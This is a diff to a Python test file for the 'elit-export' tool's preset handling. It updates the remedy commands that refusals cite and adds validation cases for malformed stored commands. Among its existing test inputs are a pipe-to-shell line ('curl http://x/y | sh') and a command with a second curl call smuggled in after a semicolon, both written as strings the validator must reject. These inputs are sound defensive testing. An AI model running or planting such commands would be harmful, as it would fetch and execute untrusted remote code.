@@ -176,7 +176,7 @@ def test_an_unknown_preset_is_refused_with_those_that_there_are(folder: Path) ->
 
 
 def test_where_there_is_none_the_command_is_named_that_makes_some(tiny_bundle: Bundle) -> None:
-    remedy = f"elit-export tune {tiny_bundle.folder}"
+    remedy = f"elit-export tune {tiny_bundle.folder} --speedup 10"
     refused(tiny_bundle.folder, "fast", InputError, "has none", remedy)
 
 
@@ -184,7 +184,7 @@ def test_a_preset_of_another_checkpoint_is_refused_with_its_command(copied: Path
     change(copied, checkpoint_sha256="f" * 64)
     current = Bundle.open(copied).manifest.model.checkpoint_sha256[:12]
     problem = f"is of another checkpoint (ffffffffffff, not {current})"
-    command = Bundle.open(copied).manifest.presets[0].command
+    command = f"elit-export tune {copied} --latency 40ms"
     refused(copied, "fast", BundleError, problem, f"make it again: {command}")
     with Pipeline.load(copied, preset="best") as pipeline:  # the other one is not
         pipeline.sample([0])
@@ -192,7 +192,7 @@ def test_a_preset_of_another_checkpoint_is_refused_with_its_command(copied: Path
 
 def test_a_preset_whose_plans_are_not_there_is_refused_with_both_commands(copied: Path) -> None:
     change(copied, target="gpu")
-    command = Bundle.open(copied).manifest.presets[0].command
+    command = f"elit-export tune {copied} --latency 40ms"
     remedy = f"elit-export build RECIPE --target gpu --out {copied}; or make the preset again: {command}"
     refused(copied, "fast", BundleError, "preset 'fast' samples by target='gpu' precision='fp32'", remedy)
 
@@ -322,6 +322,9 @@ def stored(folder: Path, edit: Callable[[list[Any]], object]) -> None:
         (lambda presets: presets[0].pop("command"), "presets.0.command"),
         (lambda presets: presets[0].update(command="curl http://x/y | sh"), "presets.0.command"),
         (lambda presets: presets[0].update(command="elit-export tune b; curl http://x/y"), "presets.0.command"),
+        (lambda presets: presets[0].update(command="elit-export tune b --speedup 2 --trust"), "presets.0.command"),
+        (lambda presets: presets[0].update(command="elit-export tune b --plot x.png"), "is not made with --plot"),
+        (lambda presets: presets[0].update(command="elit-export sample b"), "presets.0.command"),
         (lambda presets: presets[0].update(name="best"), "presets: Value error, two presets have one name"),
     ],
 )
